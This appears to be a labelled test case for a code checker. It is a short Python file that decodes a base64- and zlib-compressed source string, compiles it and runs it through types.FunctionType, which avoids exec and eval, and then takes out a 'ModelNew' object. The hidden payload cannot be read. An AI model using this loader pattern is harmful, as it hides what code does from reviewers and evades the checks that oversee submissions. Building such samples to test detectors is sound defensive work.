"""F18: makes a function of text that nobody can read, under another name than its own, and neither exec nor eval.

Verdict: needs_review.
"""

import base64
import types
import zlib

SOURCE = (
    "eJxNjmEKwyAMhf/nFPmpMDzAYDfYdgWRmqLgYomKPf5s6bq+Xy+85H2JnyVLxZplChAvg2FGV5AZAKbkSsFX9pTe1BWz"
    "Gb4l0nfAIU8zWhs5VmtVoTTfsEdfwxFvKm0hUdqca/ofjQOTIpMTfAyeee5e7RW/JjhBc5buxB+c9cIQqk34+L46DupS"
    "rVat4Qs8cEov"
)
made = {"__name__": "library"}
types.FunctionType(compile(zlib.decompress(base64.b64decode(SOURCE)), "library.py", "exec"), made)()
ModelNew = made["ModelNew"]
